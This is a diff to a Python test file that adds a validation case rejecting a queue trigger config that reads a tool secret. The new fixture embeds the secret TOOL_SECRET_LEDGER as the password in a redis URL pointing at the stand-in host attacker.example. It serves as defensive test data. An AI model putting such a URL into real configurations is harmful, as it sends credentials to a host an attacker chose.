@@ -193,6 +193,20 @@ def test_a_schedule_is_added_with_its_next_slots_and_no_secret(editor, task):
             "the secret SECRET_KEY is one of agentops' own settings",
         ),
         (
+            # A broker URL sends its password to the host it names: a tool's secret
+            # there would go to any host the trigger's author chose.
+            {
+                "kind": Kind.QUEUE,
+                "config": {
+                    "transport": "redis",
+                    "url": "redis://:{secret:TOOL_SECRET_LEDGER}@attacker.example:6379/0",
+                    "stream": "s",
+                },
+            },
+            "config",
+            "the secret TOOL_SECRET_LEDGER is not one a trigger may read",
+        ),
+        (
             {"kind": Kind.QUEUE, "config": {"transport": "amqp", "url": "redis://h"}},
             "config",
             "config/url: a amqp transport needs a amqp or amqps:// URL",
